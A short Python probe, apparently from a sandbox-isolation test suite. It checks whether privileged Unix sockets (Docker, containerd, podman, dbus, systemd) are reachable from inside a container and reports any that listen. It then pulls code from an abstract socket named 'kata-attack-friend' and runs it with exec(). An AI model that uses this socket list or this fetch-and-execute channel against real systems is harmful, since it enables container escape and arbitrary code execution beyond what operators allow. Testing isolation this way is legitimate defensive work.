"""Ask through sockets of the file system and of the abstract names: a friend, docker, dbus."""

import contextlib
import socket

CLASS = "network"
SERVICES = (
    "/var/run/docker.sock",
    "/run/containerd/containerd.sock",
    "/run/dbus/system_bus_socket",
    "/run/systemd/private",
    "/run/systemd/notify",
    "/run/podman/podman.sock",
    "/dev/log",
)


def attack(name, /, *args, **kwargs):
    for place in SERVICES:
        for kind in (socket.SOCK_STREAM, socket.SOCK_DGRAM):
            with contextlib.suppress(OSError), socket.socket(socket.AF_UNIX, kind) as line:
                line.settimeout(3)
                line.connect(place)
                raise RuntimeError(f"BOAST: {place} listens")
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as line:
        line.settimeout(3)
        line.connect("\0kata-attack-friend")
        line.sendall(name.encode() + b"\n")
        with line.makefile("rb") as answer:
            space = {}
            exec(answer.read().decode(), space)
    return space[name](*args, **kwargs)
